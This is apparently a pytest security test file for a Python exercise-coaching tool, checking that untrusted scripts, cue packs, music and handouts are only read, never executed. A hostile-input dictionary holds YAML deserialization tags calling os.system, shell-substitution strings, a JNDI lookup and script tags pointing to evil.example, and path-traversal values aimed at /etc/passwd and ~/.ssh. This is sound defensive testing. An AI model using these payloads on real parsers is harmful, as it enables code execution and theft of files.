"""Files of a stranger: they are read and nothing else, whatever they hold and whatever they are."""

from __future__ import annotations

import io
import os
import shutil
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import soundfile

from coach import routine, script, units, values
from coach.batch import roster
from coach.cli import run
from coach.cues import load_pack, load_samples, sounds
from coach.draft import documents, reading
from coach.draft.reading import read_handout
from coach.errors import CoachError, CuePackError, ScriptError
from coach.exchange import content, read_content
from coach.files.given import leaves
from coach.files.shipped import data_dir
from coach.listening.recording import read_recording
from coach.media import opened_media
from coach.render.music import load_tune, unusable
from coach.routine import load_routine
from tests.render.test_music import RATE, tone

HARMLESS = (str(Path(sys.prefix).resolve()), str(Path(sys.base_prefix).resolve()))
"""Where Python and its libraries are."""
READING = ("open", "os.listdir", "os.scandir", "glob.glob", "glob.glob/2", "pathlib.Path.glob")
EXECUTING = (
    *("exec", "compile", "import", "os.system", "os.exec", "os.fork", "os.forkpty"),
    *("os.posix_spawn", "os.spawn", "os.startfile", "subprocess.Popen", "pty.spawn"),
    *("ctypes.dlopen", "code.__new__", "function.__new__", "marshal.loads", "pickle.find_class"),
    *("urllib.Request", "webbrowser.open", "ftplib.connect", "http.client.connect"),
)
CHANGING = (
    *("os.remove", "os.rename", "os.rmdir", "os.mkdir", "os.link", "os.symlink", "os.truncate"),
    *("os.chmod", "os.chown", "os.utime", "os.kill", "os.putenv", "shutil.rmtree", "shutil.move"),
)


class Watch:
    """What Python tells that it does, once it is switched on."""

    def __init__(self) -> None:
        self.allowed: tuple[str, ...] | None = None
        self.seen: list[str] = []
        self._thread = threading.get_ident()
        sys.addaudithook(self._hook)

    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
        if self.allowed is None or threading.get_ident() != self._thread:
            return
        if event in EXECUTING or event in CHANGING or event.startswith("socket."):
            self.seen.append(f"{event} {arguments!r}"[:300])
        elif event in READING and isinstance(arguments[0], (str, bytes, os.PathLike)):
            # To resolve links would itself be told.
            path = os.path.abspath(os.fsdecode(arguments[0]))  # noqa: PTH100
            is_written = event == "open" and bool(arguments[2] & (os.O_WRONLY | os.O_RDWR))
            if is_written or not path.startswith(self.allowed):
                self.seen.append(f"{event} {path}")

    @contextmanager
    def on(self, *folders: Path) -> Iterator[None]:
        """Note all that is executed, fetched, changed, or read elsewhere than in `folders`."""
        self.seen.clear()
        self.allowed = (*HARMLESS, *map(str, folders))
        try:
            yield
        finally:
            self.allowed = None


@pytest.fixture(scope="module")
def watch() -> Watch:
    """The one hook of this process, which cannot be taken away again."""
    return Watch()


HOSTILE = {
    "call": "title: !!python/object/apply:os.system ['touch owned']\n",
    "new object": "title: !!python/object/new:subprocess.Popen [[touch, owned]]\n",
    "module": "title: !!python/module:antigravity\n",
    "name": "title: T\nlanguage: !!python/name:os.system\n",
    "own tag": "%TAG ! tag:evil.example,2000:\n---\ntitle: !include /etc/passwd\n",
    "shell": "title: $(touch owned)\ndescription: '`touch owned`'\nsource: '; touch owned #'\n",
    "format": "title: '%n%n%s'\nsafety: ['{name.__class__.__mro__}', '{0}', '{name!r:>{name}}']\n",
    "template": "title: '{{7*7}}'\ndescription: '${jndi:ldap://evil.example/a}'\n",
    "page": "title: <script src=http://evil.example></script>\n",
    "speech": "title: 'T'\nsafety: ['[[inpt PHON]]', '<audio src=\"http://evil.example/a.wav\"/>']\n",
    "language is a module": "title: T\nlanguage: os\n",
    "language is a path": "title: T\nlanguage: ../../../etc/passwd\n",
    "pack on the net": "title: T\ncues: http://evil.example/pack\n",
    "pack of a file system": "title: T\ncues: file:///etc\n",
    "pack on a server": "title: T\ncues: '\\\\evil.example\\share'\n",
    "pack on a drive": "title: T\ncues: 'C:packs'\n",
    "pack is a device": "title: T\ncues: /dev/zero\n",
    "pack is Windows' device": "title: T\ncues: NUL\n",
    "pack above": "title: T\ncues: ../secret\n",
    "pack linked": "title: T\ncues: ./linked\n",
    "pack at home": "title: T\ncues: ~/.ssh\n",
    "pack by a variable": "title: T\ncues: $HOME/.ssh\n",
    "id": "title: T\nexercises: [{name: A, hold: 3, id: __import__('os')}]\n",
    "progress": 'title: T\nprogress: \'__import__("os").system("touch owned")\'\n',
    "number": "title: T\nrest: 9**9**9\nsettle: 1e999999999\n",
}
GOOD = "title: T\ncues: ./pack\nexercises: [{name: A, hold: 3, reps: 2-3}]\n"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with a cue pack, a link out of it, and a secret pack beside it."""
    inside = tmp_path / "inside"
    shutil.copytree(data_dir("audio_cues") / "soft", inside / "pack")
    shutil.copytree(data_dir("audio_cues") / "soft", tmp_path / "secret")
    (inside / "linked").symlink_to(tmp_path / "secret")
    return inside


def test_a_script_is_read_and_nothing_else(
    folder: Path, watch: Watch, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(folder)
    home = Path(os.environ["HOME"])
    good, bad = folder / "good.yaml", folder / "bad.yaml"
    good.write_text(GOOD, "utf-8")
    commands = (["check", "--advice"], ["show", "--json"], ["fmt", "--check"])
    for text in (GOOD, GOOD.replace("title", "titel")):  # loads what is loaded late
        good.write_text(text, "utf-8")
        codes = [run([*command, str(good)]) for command in commands]
    assert codes[:2] == [1, 1]
    package = data_dir("scripts").parent
    for name, text in HOSTILE.items():
        whole = text if "exercises" in text else f"{text}exercises: [{{name: A, hold: 3}}]\n"
        bad.write_text(whole, "utf-8")
        with watch.on(folder, package, home):
            codes = [run([*command, str(bad)]) for command in commands]
        assert set(codes) <= {0, 1}, name
        assert watch.seen == [], name
        assert not (folder / "owned").exists()
    assert "Traceback" not in capsys.readouterr().err


def test_the_watch_sees_what_it_is_for(tmp_path: Path, watch: Watch) -> None:
    with watch.on(tmp_path):
        exec("1")  # noqa: S102 - seen is what is to be seen
        (tmp_path / "written").write_text("x")
        Path("/etc/hostname").open("rb").close()
        (tmp_path / "written").open("rb").close()
    events = [seen.split()[0] for seen in watch.seen]
    assert events == ["compile", "exec", "open", "open"]


@pytest.mark.parametrize(
    "name",
    [
        *("..", "../a", "a/../../b", "/a", "//server/share", "\\\\server\\share", "\\a", "C:a"),
        *("C:\\a", "c:/a", "a\\..\\b", "\\\\?\\C:\\a", "\\\\.\\pipe\\a"),
    ],
)
def test_a_path_that_leaves_is_told_and_not_opened(tmp_path: Path, watch: Watch, name: str) -> None:
    assert leaves(name)
    path = tmp_path / "a.yaml"
    path.write_text("titel: T")
    with pytest.raises(ScriptError):  # what any wrong script imports, is imported
        load_routine(path)
    path.write_text(f"title: T\ncues: '{name}'\nexercises: [{{name: A, hold: 3}}]\n")
    with watch.on(tmp_path), pytest.raises(ScriptError) as caught:
        load_routine(path)
    assert "found one that leaves it" in caught.value.problems[0].message
    assert watch.seen == []


def pipe(path: Path) -> None:
    os.mkfifo(path)


def device(path: Path) -> None:
    path.symlink_to("/dev/zero")


READERS: dict[str, tuple[str, Callable[[Path], object]]] = {
    "music": ("a.mp3", lambda path: load_tune(path, RATE, RATE)),
    "recording": ("a.wav", lambda path: list(read_recording(path))),
    "script": ("a.yaml", load_routine),
    "import": ("a.json", read_content),
    "handout": ("a.txt", read_handout),
}


@pytest.mark.parametrize("reader", READERS)
def test_a_pipe_at_which_nobody_writes_is_told_at_once(tmp_path: Path, reader: str) -> None:
    name, read = READERS[reader]
    pipe(tmp_path / name)
    with pytest.raises(CoachError, match="no regular file"):
        read(tmp_path / name)


@pytest.mark.parametrize("reader", READERS)
def test_a_device_without_an_end_is_told(tmp_path: Path, reader: str) -> None:
    name, read = READERS[reader]
    device(tmp_path / name)
    with pytest.raises(CoachError, match=r"no regular file|larger than|is empty"):
        read(tmp_path / name)


def test_what_a_shell_has_opened_is_read() -> None:
    reading, writing = os.pipe()
    with os.fdopen(writing, "wb") as file:
        file.write(GOOD.replace("cues: ./pack\n", "").encode())
    assert load_routine(Path(f"/dev/fd/{reading}")).title == "T"
    os.close(reading)


@pytest.mark.parametrize("make", [pipe, device, Path.mkdir])
@pytest.mark.parametrize("name", ["tick.wav", "pack.yaml"])
def test_a_pack_of_other_things_than_files(
    folder: Path, make: Callable[[Path], object], name: str
) -> None:
    (folder / "pack" / name).unlink()
    make(folder / "pack" / name)
    with pytest.raises(CuePackError, match=r"not a file|no file|leaves the pack's folder"):
        load_pack(folder / "pack", data_dir("audio_cues"))


def test_a_pack_whose_description_is_a_link_out_of_it(folder: Path) -> None:
    secret = folder / "secret.txt"
    secret.write_text("hush: hush\n")
    (folder / "pack" / "pack.yaml").unlink()
    (folder / "pack" / "pack.yaml").symlink_to(secret)
    with pytest.raises(CuePackError, match="leaves the pack's folder") as caught:
        load_pack(folder / "pack", data_dir("audio_cues"))
    assert "hush" not in caught.value.message


def test_a_link_that_takes_a_sounds_place_after_the_check(folder: Path) -> None:
    pack = load_pack(folder / "pack", data_dir("audio_cues"))
    (folder / "pack" / "tick.wav").unlink()
    (folder / "pack" / "tick.wav").symlink_to(folder.parent / "secret" / "tick.wav")
    with pytest.raises(CuePackError, match=r"tick\.wav cannot be read"):
        load_samples(pack, 24_000)


# -- music -----------------------------------------------------------------------------------

PLAYLISTS = {
    "concat.mp3": "ffconcat version 1.0\nfile 'secret.wav'\n",
    "list.m3u8": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nhttp://127.0.0.1:9/a.ts\n",
    "hls.mp3": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:secret.wav\n#EXT-X-ENDLIST\n",
    "list.sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 9 RTP/AVP 0\n",
    "dash.m4a": '<?xml version="1.0"?><MPD><BaseURL>http://127.0.0.1:9/</BaseURL></MPD>',
}


@pytest.mark.parametrize("name", PLAYLISTS)
def test_music_that_names_another_file_is_no_music(tmp_path: Path, name: str) -> None:
    tone(tmp_path / "secret.wav", 3)
    (tmp_path / name).write_text(PLAYLISTS[name])
    for read in (lambda path: load_tune(path, RATE, RATE), lambda path: list(read_recording(path))):
        with pytest.raises(CoachError, match="cannot read"):
            read(tmp_path / name)


@pytest.mark.parametrize(
    "name",
    ["http://127.0.0.1:9/a.mp3", "concat:real.wav", "file:real.wav", "subfile,,start,0:real.wav"],
)
def test_the_name_of_music_is_a_files_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    tone(tmp_path / "real.wav", 3)
    with pytest.raises(CoachError, match="no such file"):
        load_tune(Path(name), RATE, RATE)


def test_of_a_folder_of_music_what_is_broken_is_told_and_the_rest_is_played(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    music = tmp_path / "music"
    music.mkdir()
    (music / "1-broken.mp3").write_text("no music\n" * 50)
    tone(music / "2.wav", 4, pitch=300)
    (music / "3-empty.ogg").touch()
    tone(music / "4.wav", 4, pitch=500)
    pipe(music / "5.mp3")
    tune = load_tune(music, RATE, 60 * RATE)
    assert len(tune.samples) == pytest.approx(5 * RATE, abs=200)
    assert [problem.split(":")[0].rpartition("/")[2] for problem in tune.problems] == [
        "1-broken.mp3", "3-empty.ogg",
    ]  # fmt: skip
    assert unusable(music) == list(tune.problems)
    path = tmp_path / "a.yaml"
    path.write_text("title: A\nexercises: [{name: A, hold: 1, settle: 0}]\n")
    target = tmp_path / "out.wav"
    command = ["render", str(path), "--detail", "cues", "--music", str(music), "-o", str(target)]
    assert run(command) == 0
    assert "1-broken.mp3" in capsys.readouterr().err
    assert soundfile.info(target).channels == 2


def test_a_folder_of_nothing_but_broken_music_is_an_error(tmp_path: Path) -> None:
    for number in range(3):
        (tmp_path / f"{number}.mp3").write_text("no music\n" * 50)
    with pytest.raises(CoachError, match=r"cannot read music from .*0\.mp3"):
        load_tune(tmp_path, RATE, RATE)
    with pytest.raises(CoachError, match=r"cannot read music from .*0\.mp3"):
        unusable(tmp_path)


def test_ordinary_sound_is_opened(tmp_path: Path) -> None:
    with opened_media(tone(tmp_path / "a.flac", 1)) as file:
        assert file.streams.audio


# -- handouts --------------------------------------------------------------------------------


def test_reading_a_handout_runs_no_module_that_lies_beside_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for module in ("json", "zipfile", "pypdf", "docx", "coach", "sitecustomize"):
        Path(f"{module}.py").write_text("open('owned', 'w').close()\n")
    page = tmp_path / "page.html"
    page.write_text(
        "<html><h2>Heel slides</h2><p>Hold for 5 seconds.</p><img src=http://127.0.0.1:9/a.png>"
        "<link rel=stylesheet href=http://127.0.0.1:9/a.css><script>open('owned')</script></html>"
    )
    assert read_handout(page).blocks
    assert not Path("owned").exists()


def test_standard_input_may_be_anything(monkeypatch: pytest.MonkeyPatch) -> None:
    class Standard:
        buffer = io.BytesIO(b"\0\xff" * 1000)

    monkeypatch.setattr("sys.stdin", Standard())
    assert run(["draft", "-"]) == 1


def test_the_readme_tells_the_limits() -> None:
    readme = (Path(__file__).parents[1] / "README.md").read_text("utf-8")
    section = readme.split("### From a stranger")[1].split("\n### ")[0]
    for told in (
        f"{script.MAX_BYTES // 10**6} MB of UTF-8",
        f"{script.MAX_DEPTH} levels of nesting, {script.MAX_NODES:,} values",
        f"{values.MAX_TEXT:,}, {values.MAX_NAME}, {values.MAX_TAG} characters",
        f"{units.REPS.most:,}, {units.SETS.most}, {units.ROUNDS.most:,}",
        f"{units.TIME.most // 3600} h",
        f"{routine.MAX_SESSION // 3600} hours, {routine.MAX_EVENTS:,} beeps",
        f"{content.MAX_BYTES // 10**6} MB, {content.MAX_VALUES:,} values",
        f"{reading.MAX_BYTES // 10**6} MB, {reading.MAX_TEXT:,} letters, {documents.MAX_PAGES} pages",
        f"a web page {reading.MAX_PAGE // 10**6} MB",
        f"{max(reading.MAX_SECONDS.values())} s and {documents.MAX_MEMORY // 10**6} MB of memory",
        f"| {sounds.MAX_SECONDS} s, ",
        f"{roster.MAX_BYTES >> 20} MB",
    ):
        assert told in section
